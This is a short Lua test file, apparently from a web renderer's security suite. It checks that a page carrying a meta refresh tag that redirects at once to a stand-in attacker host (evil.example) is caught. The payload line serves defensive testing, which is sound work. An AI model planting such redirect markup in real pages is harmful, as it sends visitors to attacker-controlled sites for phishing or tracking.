-- SPDX-License-Identifier: GPL-3.0-or-later
-- A renderer that was taken over sends everybody to another site, with what the page shows.
-- wall: MARKUP
-- evil: page has <meta http-equiv=
return function(vm, h)
  test_page("<!doctype html><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/?all\">")
  return h.p{"x"}
end
